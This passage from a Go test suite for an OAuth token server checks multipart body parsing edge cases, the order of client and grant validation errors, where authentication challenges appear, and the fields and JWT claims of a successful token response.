		{"8bit", with(disposition+"\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit", "é"), of(boundary), granted()},
		{"binary", with(disposition+"\r\nContent-Transfer-Encoding: binary", "x"), of(boundary), granted()},
		{"another charset", with(disposition+"\r\nContent-Type: text/plain; charset=utf-16", "x"), of(boundary), part},
		{"its own type", with(disposition+"\r\nContent-Type: application/json", "{}"), of(boundary), part},
		{"folded header", with("Content-Disposition: form-data;\r\n name=\"x\"", "x"), of(boundary), syntax},
		{"long header", with(disposition+"\r\nX: "+strings.Repeat("x", 8<<10), "x"), of(boundary), syntax},
		{"many headers", with(disposition+strings.Repeat("\r\nX: y", 2000), "x"), of(boundary), syntax},
		{"missing boundary", right, of("multipart/form-data"), syntax},
		{"empty boundary", right, of(`multipart/form-data; boundary=""`), syntax},
		{"1 KiB boundary", right, of("multipart/form-data; boundary=" + strings.Repeat("X", 1024)), syntax},
		{"other boundary", right, of("multipart/form-data; boundary=YY"), syntax},
		{"boundary twice", right, of("multipart/form-data; boundary=XX; boundary=YY"), outcome{status: 400, code: "invalid_request"}},
		{"multipart/mixed", right, of("multipart/mixed; boundary=XX"), malformed("content_type_unsupported")},
		{"truncated", right[:len(right)-6], of(boundary), syntax},
		{"no end", strings.TrimSuffix(right, "--XX--\r\n"), of(boundary), syntax},
		{"preamble", "preamble\r\n" + right, of(boundary), syntax},
		{"epilogue", right + "epilogue", of(boundary), syntax},
		{"bare LF", strings.ReplaceAll(right, "\r\n", "\n"), of(boundary), syntax},
		{"empty", "--XX--\r\n", of(boundary), missing("grant_type")},
		{"text/plain part", with(disposition+"\r\nContent-Type: text/plain; charset=UTF-8", "x"), of(boundary), granted()},
		{"as it should be", right, of(boundary), granted()},
	})
	if entries, err := os.ReadDir(temporary); err != nil || len(entries) > 0 {
		t.Errorf("on disk: %v %v", entries, err)
	}
}

// TestT99TheOrderOfChecks: an unknown client with a dead refresh token, a wrong secret with a used code → invalid_client, never
// invalid_grant; a wrong secret with an unknown grant type → unsupported_grant_type. Nothing about a grant is said to somebody who has
// not proved which client they are, and a client that is gone hears so.
func TestT99TheOrderOfChecks(t *testing.T) {
	d := openDoor(t, patient)
	unsupported := outcome{status: 400, code: "unsupported_grant_type"}
	d.run(t, []tokenCase{
		{"media type before everything", "grant_type=foo&client_id=nobody", []string{"Content-Type", "text/plain"}, malformed("content_type_unsupported")},
		{"duplicates before the grant type", "a=1&a=2", nil, malformed("parameter_duplicate")},
		{"duplicates before two mechanisms", ccGrant + "&" + asConf + "&a=1&a=2", basic("conf:" + confSecret), malformed("parameter_duplicate")},
		{"grant type before the client", "client_id=nobody&client_secret=x", nil, missing("grant_type")},
		{"unknown grant type before the client", "grant_type=foo&client_id=conf&client_secret=wrong", nil, unsupported},
		{"unknown grant type before two mechanisms", "grant_type=foo&" + asConf, basic("conf:" + confSecret), unsupported},
		{"two mechanisms before the client", ccGrant + "&client_id=nobody&client_secret=x", basic("nobody:x"), twoMechanisms()},
		{"client before its grants", ccGrant + "&client_id=legacy&client_secret=wrong", nil, badClient("client_authentication_failed")},
		{"client before the scope", ccGrant + "&client_id=conf&client_secret=wrong&scope=%22", nil, badClient("client_authentication_failed")},
		{"grants before the scope", ccGrant + "&client_id=legacy&client_secret=legacy-" + confSecret + "&scope=%22", nil,
			outcome{status: 400, code: "unauthorized_client"}},
		{"the scope last", ccGrant + "&" + asConf + "&scope=%22", nil, badScope()},
	})
	// At the neighbours too: the client before the token.
	for _, path := range []string{"/oauth/revoke", "/oauth/introspect"} {
		d.decisions(t)
		d.hold(t, d.ask(t, path, "client_id=conf&client_secret=wrong"), badClient("client_authentication_failed"))
		d.hold(t, d.ask(t, path, ""), outcome{status: 400, code: "invalid_request", reason: "content_type_missing"})
		d.hold(t, d.ask(t, path, "token=x"), badClient("client_credentials_missing"))
		d.hold(t, d.ask(t, path, asConf), missing("token"))
		d.hold(t, d.ask(t, path, asConf+"&token="), missing("token"))
	}
}

// TestT100T102ChallengesOnlyWhereTheyBelong: 401 after Basic → a Basic challenge; 401 after body credentials, and any 400 → none; error
// bodies hold exactly `error` and `error_description`. With a challenge on a 400 common clients lose the typed error. What an error body
// is, is held by each refusal of these files.
func TestT100T102ChallengesOnlyWhereTheyBelong(t *testing.T) {
	d := openDoor(t, patient)
	d.run(t, []tokenCase{
		{"401 to Basic", ccGrant, basic("conf:wrong"), badBasic("client_authentication_failed")},
		{"401 to body credentials", ccGrant + "&client_id=conf&client_secret=wrong", nil, badClient("client_authentication_failed")},
		{"401 to nothing", ccGrant, nil, badClient("client_credentials_missing")},
		{"400 with Basic", "grant_type=foo", basic("conf:" + confSecret), outcome{status: 400, code: "unsupported_grant_type"}},
		{"400 with wrong Basic", "grant_type=foo", basic("conf:wrong"), outcome{status: 400, code: "unsupported_grant_type"}},
		{"400 for the scope with Basic", ccGrant + "&scope=unknown", basic("conf:" + confSecret), badScope()},
		{"400 for two headers", ccGrant, append(basic("conf:wrong"), basic("conf:wrong")...), malformed("authorization_header_duplicate")},
	})
}

// TestT101TheSuccessBody: the success answer of a grant → 200, members in the documented order, scope always there, absent ones omitted,
// expires_in in whole seconds. Those of a user's are held by tokensIn, for every grant.
func TestT101TheSuccessBody(t *testing.T) {
	d := openDoor(t, strings.Replace(patient, "client other other-SECRET {", "client other other-SECRET {\n\t\t\ttokens {\n\t\t\t\tclient_credentials 10s\n\t\t\t}", 1))
	for _, e := range encodings {
		body, contentType := e.body(confFields("scope", "orders.read public", "state", "xyz")...)
		a := d.ask(t, "/oauth/token", body, "Content-Type", contentType, "Accept", "text/html")
		token, scope := issued(t, a)
		if scope != "orders.read public" {
			t.Errorf("scope %q", scope)
		}
		claim := claims(t, token)
		var answered struct {
			CreatedAt float64 `json:"created_at"`
		}
		if err := json.Unmarshal([]byte(a.body), &answered); err != nil {
			t.Fatal(err)
		}
		iat, _ := claim["iat"].(float64)
		exp, _ := claim["exp"].(float64)
		if iat != answered.CreatedAt || exp != iat+7200 {
			t.Errorf("iat %v, exp %v, created_at %v", iat, exp, answered.CreatedAt)
		}
		for name, want := range map[string]any{"iss": d.url, "sub": "conf", "client_id": "conf", "aud": d.url} {
			if claim[name] != want {
				t.Errorf("%s: %v, want %v", name, claim[name], want)
			}
		}
		if len(claim) != 8 { // these, scope, iat, exp, jti
			t.Errorf("claims %v", claim)
		}
	}
	a := d.ask(t, "/oauth/token", ccGrant, basic("other:other-"+confSecret)...)
	if !strings.Contains(a.body, `"expires_in":10,"scope":"public","created_at":`) {
		t.Errorf("a client's own lifetime: %s", a.body)
	}
}
